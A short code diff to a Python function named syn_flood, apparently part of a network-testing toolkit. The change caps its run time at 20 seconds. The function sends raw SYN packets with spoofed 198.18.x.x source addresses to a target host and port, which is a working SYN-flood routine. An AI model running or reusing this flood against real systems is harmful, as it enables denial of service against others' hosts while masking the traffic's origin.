@@ -276,11 +276,14 @@ def vsock(_state: State, *, ports: int) -> dict[str, Any]:
 
 
 def syn_flood(_state: State, *, host: str, port: int, count: int) -> dict[str, Any]:
-    """Open half-open connections from spoofed sources."""
+    """Open half-open connections from spoofed sources, for at most 20 s."""
     target = socket.gethostbyname(host)
     sent = 0
+    deadline = time.monotonic() + 20
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, 255) as sock:
         for number in range(count):
+            if time.monotonic() > deadline:
+                break
             source = f"198.18.{1 + number // 60000}.{1 + number % 200}"
             with contextlib.suppress(OSError):
                 sock.sendto(_syn(source, 1024 + number % 60000, target, port), (target, 0))
